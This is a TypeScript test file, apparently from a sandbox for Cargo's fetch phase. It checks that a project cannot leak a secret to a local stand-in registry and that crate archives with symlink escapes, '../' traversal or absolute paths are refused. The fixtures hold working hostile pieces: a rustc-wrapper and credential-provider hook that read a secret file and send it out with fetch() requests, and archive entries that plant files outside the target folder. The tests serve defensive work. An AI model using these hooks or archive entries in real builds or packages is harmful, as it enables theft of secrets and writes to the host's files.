/** The only phase with a network, as a way out and as a way in. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { crateOf } from '../support/crate-archive.ts';
import { hostCargo } from '../support/host-cargo.ts';
import { type RegistryStandIn, startRegistry } from '../support/registry-stand-in.ts';
import { type Project, project, temporaryFolder } from '../support/rig.ts';

const canary = 'canary-of-the-project';

function uses(context: TestContext, crate: string, registry: RegistryStandIn): Project {
  return project(context, {
    'Cargo.toml': `[package]\nname = "uses"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\n${crate} = { version = "1", registry = "near" }\n`,
    '.cargo/config.toml': `[registries.near]\nindex = "${registry.index}"\n`,
    'src/main.rs': 'fn main() {}\n',
  });
}

async function registryOf(context: TestContext): Promise<RegistryStandIn> {
  const registry = await startRegistry();
  context.after(() => registry.stop());
  await registry.publish({ name: 'leaf', version: '1.0.0' });
  return registry;
}

/** A project whose compiler sends a secret to the registry: by a search, by a download, by a publication. */
function sender(context: TestContext, registry: RegistryStandIn): Project {
  const made = uses(context, 'leaf', registry);
  made.write('secret', canary);
  made.write('src/main.rs', `//! ${canary}\nfn main() {}\n`);
  const send = (url: string, more = '{}') => `fetch('http://${registry.host}${url}', ${more}).catch(() => {})`;
  const script = [
    "const secret = require('node:fs').readFileSync(process.argv[1] + '/secret', 'utf8');",
    send("/api/v1/crates?q=' + secret + '"),
    send("/dl/' + secret + '/1.0.0/download"),
    send('/api/v1/crates/new', "{ method: 'PUT', body: secret }"),
  ].join('\n');
  made.write('send.js', script);
  const program = `#!/bin/sh\n'${process.execPath}' -e "$(cat '${made.folder}/send.js')" '${made.folder}' >/dev/null 2>&1\nexec rustc "$@"\n`;
  for (const name of ['compiler', 'provider']) {
    made.write(name, program);
    chmodSync(made.path(name), 0o755);
  }
  made.write(
    '.cargo/config.toml',
    `${made.read('.cargo/config.toml')}credential-provider = ["${made.path('provider')}"]\n[build]\nrustc = "${made.path('compiler')}"\nrustc-wrapper = "${made.path('compiler')}"\n[registry]\ndefault = "near"\n`,
  );
  return made;
}

describe('a project that wants to send a secret to the registry while its crates are fetched', () => {
  it('sends nothing: every request is for the index or for a crate of the lock', async (context) => {
    const registry = await registryOf(context);
    const made = sender(context, registry);
    for (const command of [['fetch'], ['update'], ['add', 'leaf@1', '--registry', 'near'], ['metadata']]) {
      const ended = await made.boxed(command);
      assert.equal(ended.status === 70 || ended.status === null, false, ended.text);
    }
    const asked = registry.requests();
    assert.ok(asked.some(({ path }) => path === '/dl/leaf/1.0.0/download'));
    for (const { path, authorization } of asked) {
      assert.match(path, /^\/(index\/config\.json|index\/le\/af\/leaf|dl\/leaf\/1\.0\.0\/download)$/);
      assert.equal(authorization, null);
    }
  });

  it('sends it without a box', async (context) => {
    const registry = await registryOf(context);
    const made = sender(context, registry);
    await hostCargo(made, ['metadata', '--format-version', '1']);
    const asked = registry.requests().map(({ path }) => path);
    assert.ok(asked.includes(`/api/v1/crates?q=${canary}`), asked.join('\n'));
    assert.ok(asked.includes(`/dl/${canary}/1.0.0/download`));
  });
});

describe('an archive of a crate that', () => {
  const own = [
    { name: 'leaf-1.0.0/Cargo.toml', content: '[package]\nname = "leaf"\nversion = "1.0.0"\n' },
    { name: 'leaf-1.0.0/src/lib.rs', content: '' },
  ];
  for (const [what, entries, shows] of [
    [
      'writes through a link of its own',
      (outside: string) => [
        { name: 'leaf-1.0.0/way', type: 'symlink' as const, linkname: outside },
        { name: 'leaf-1.0.0/way/planted', content: 'evil' },
      ],
      'planted',
    ],
    [
      'climbs out',
      (outside: string) => [{ name: `leaf-1.0.0/${'../'.repeat(20)}${outside.slice(1)}/planted`, content: 'evil' }],
      'planted',
    ],
    ['has an absolute path', (outside: string) => [{ name: `${outside}/planted`, content: 'evil' }], 'planted'],
    [
      'links to a secret',
      (outside: string) => [{ name: 'leaf-1.0.0/src/key', type: 'symlink' as const, linkname: `${outside}/secret` }],
      'leaf-1.0.0/src/key',
    ],
  ] as const) {
    it(`${what} is refused and writes nothing; unpacked without us it does it`, async (context) => {
      const outside = temporaryFolder(context, 'outside');
      writeFileSync(join(outside, 'secret'), 'canary-of-the-host');
      const archive = await crateOf([...own, ...entries(outside)]);
      const registry = await startRegistry();
      context.after(() => registry.stop());
      await registry.publish({ name: 'leaf', version: '1.0.0', archive });
      const ended = await uses(context, 'leaf', registry).boxed(['build']);
      assert.equal(ended.status, 77, ended.text);
      assert.match(ended.stderr, /leaf 1\.0\.0/);
      assert.equal(existsSync(join(outside, 'planted')), false);
      const plain = temporaryFolder(context, 'plain');
      execFileSync('tar', ['-xzPf', '-', '-C', plain], { input: archive });
      assert.ok(existsSync(join(shows === 'planted' ? outside : plain, shows)));
    });
  }
});
